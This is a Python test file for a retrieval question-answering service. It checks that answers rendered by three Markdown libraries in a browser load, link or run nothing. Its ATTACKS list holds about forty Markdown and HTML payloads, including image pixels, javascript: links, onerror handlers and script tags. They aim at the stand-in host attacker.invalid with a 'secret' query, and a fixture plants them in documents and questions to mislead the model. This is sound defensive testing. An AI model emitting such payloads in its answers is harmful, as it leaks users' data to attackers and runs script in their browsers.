"""
Answers in clients that render Markdown: no image, link or script, whichever renderer shows them.

What the service answers is rendered by markdown-it-py (PyPI), and by marked and markdown-it (npm),
each with raw HTML allowed, and put into a page of Chromium that reports all it would load.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import requests
from markdown_it import MarkdownIt
from playwright.sync_api import Browser

from local.system import System
from tests.support.gemini_stand_in import GeminiStandIn, answering

SHELF = "browser-renderers"
FACT = "The parrot in the lobby says hello."
QUESTION = "What does the parrot in the lobby say?"
EVIL = "http://attacker.invalid/p.png?q=secret"
ATTACKS = [
    f"![pixel]({EVIL})",
    f"![pixel][id]\n\n[id]: {EVIL}",
    f"![pixel][]\n\n[pixel]: <{EVIL}> 'title'",
    f"[![pixel]({EVIL})]({EVIL})",
    f"[click]({EVIL})",
    f"[click\nhere]({EVIL})",
    f"[click](<{EVIL}>)",
    "[click](javascript:window.attacked='link')",
    "[click](&#106;avascript:window.attacked='link')",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<{EVIL}>",
    "<javascript:alert(1)>",
    EVIL,
    "www.attacker.invalid/p?q=secret",
    "mail me@attacker.invalid or <me@attacker.invalid>",
    "//attacker.invalid/p.png",
    f"<img src='{EVIL}' onerror=\"window.attacked='img'\">",
    f"<img\nsrc='{EVIL}'\nonerror=\"window.attacked='img'\">",
    f"<img/src={EVIL}",
    "<script>window.attacked='script'</script>",
    "<svg onload=\"window.attacked='svg'\"></svg>",
    f"<iframe src={EVIL}></iframe>",
    f"<style>@import '{EVIL}';</style>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<form action={EVIL}><button>go</button></form>",
    f"<video poster={EVIL}></video>",
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | [y]({EVIL}) |",
    f"| a `| b |\n|---|---|\n| ` ![x]({EVIL}) | ` |",
    f"- item\n\n    ![x]({EVIL})\n- [x]({EVIL})",
    f"> ![x]({EVIL})\n> [y]({EVIL})",
    f"# ![x]({EVIL})",
    f"``` ![x]({EVIL})\n```\n![y]({EVIL})",
    f"~~~\ncode\n~~~\n![y]({EVIL})",
    f"`code ![x]({EVIL})\n` ![y]({EVIL})",
    f"\\![x]({EVIL}) \\\\![y]({EVIL})",
    f"*![x]({EVIL})* **[y]({EVIL})**",
    f"![a](b) ![x]({EVIL} 'a\"b') [b][1]\n\n[1]: {EVIL}",
    f"[1]: {EVIL}\n\nIt says hello [1].",
    f"[^1]: ![x]({EVIL})\n\nhello[^1]",
    "<!-- --> <b onclick=\"window.attacked='b'\">x</b>",
    f"<a href='{EVIL}'>x</a>",
    f"&lt;img src={EVIL}&gt; &#60;img src={EVIL}&#62;",
    "<math><mtext></form><form><mglyph><svg><style><path id='</style><img onerror=alert(1) src>'>",
]
_RENDERERS = Path(__file__).parent / "renderers"
_ALLOWED = frozenset(
    [
        "p",
        "br",
        "hr",
        "ul",
        "ol",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "pre",
        "code",
        "strong",
        "em",
        "del",
        "blockquote",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
    ]
)
_RENDER = {
    "marked": "(text) => marked.parse(text, { gfm: true })",
    "markdown-it": "(text) => markdownit({ html: true }).render(text)",
}


@pytest.fixture(scope="module")
def answers(system: System, gemini_url: str, gemini: GeminiStandIn) -> list[str]:
    """Return what a misled model's answers, and those without a model, leave the service as."""
    name = f"{SHELF}/parrot.txt"
    text = "\n\n".join(f"{FACT} It says: {attack}" for attack in ATTACKS)
    system.wait_for(name, generation=system.upload(name, text))
    request = {"question": QUESTION, "filter": {"collection": SHELF}}
    found = []
    for attack in ATTACKS:
        # First what the passages hold to the letter, which may stay as text; then what they do not.
        for written in (attack, attack.replace("secret", "other")):
            gemini.plan(answering(f"{FACT} [1] {written}\n\n{written}", [(1, FACT)]))
            body = requests.post(f"{gemini_url}/query", json=request, timeout=60).json()
            assert body["model"] != "extractive"
            found.append(body["answer"])
    for attack in ATTACKS:
        question = f"{QUESTION} {attack}"
        asked = {**request, "question": question}
        found.append(system.post("/query", asked)["answer"])
    assert sum(FACT in answer for answer in found) >= 2 * len(ATTACKS)
    return found


@pytest.mark.parametrize("renderer", ["markdown-it-py", *_RENDER])
def test_no_renderer_makes_anything_active(
    browser: Browser, answers: list[str], renderer: str
) -> None:
    """Elements of text alone come out, without attributes that load, link or run."""
    context = browser.new_context()
    page = context.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.route("**/*", lambda route: route.abort())
    if renderer == "markdown-it-py":
        parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
        rendered = [parser.render(answer) for answer in answers]
    else:
        page.add_script_tag(path=next((_RENDERERS / renderer).glob("*.js")))
        rendered = page.evaluate(f"(texts) => texts.map({_RENDER[renderer]})", answers)
    found = page.evaluate(
        """async (rendered) => {
          const seen = [];
          for (const html of rendered) {
            document.body.innerHTML = html;
            for (const element of document.body.querySelectorAll("*")) {
              const attributes = [...element.attributes].map((one) => one.name);
              seen.push({ name: element.localName, attributes, html });
            }
          }
          await new Promise((resolve) => setTimeout(resolve));
          return seen;
        }""",
        rendered,
    )
    harmless = {"start", "align", "style", "class"}
    active = {
        one["html"]
        for one in found
        if one["name"] not in _ALLOWED or set(one["attributes"]) - harmless
    }
    assert active == set()
    assert [
        one["html"]
        for one in found
        if one["name"] not in ("td", "th") and "style" in one["attributes"]
    ] == []
    assert page.evaluate("window.attacked") is None
    assert requested == []
    context.close()
